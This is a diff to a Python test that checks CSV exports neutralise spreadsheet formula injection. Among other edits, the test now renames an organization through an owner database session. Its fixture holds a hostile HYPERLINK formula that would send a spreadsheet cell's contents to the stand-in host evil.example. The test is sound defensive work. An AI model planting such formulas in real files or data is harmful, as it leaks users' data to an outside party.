@@ -95,12 +95,13 @@ def _csv_rows(response) -> list[list[str]]:
 
 @pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
 async def test_csv_cells_starting_a_formula_are_prefixed_with_a_quote_and_ndjson_is_unchanged(
-    api, client, session_factory, prefix
+    api, client, session_factory, owner_session_factory, prefix
 ):
-    # given a project whose name and lead unit's name start with a formula trigger
+    # given a project whose name and lead unit's name start with a formula trigger (renamed as the owner:
+    # the API never renames an organization, so its role may not)
     a = await make_agencies(api, session_factory, "unit")
     evil = prefix + 'HYPERLINK("http://evil.example/?x="&A1,"点击")'
-    async with session_factory() as session, session.begin():
+    async with owner_session_factory() as session, session.begin():
         await session.execute(
             update(tables.organizations).where(tables.organizations.c.id == a.org["unit"]).values(name=evil)
         )
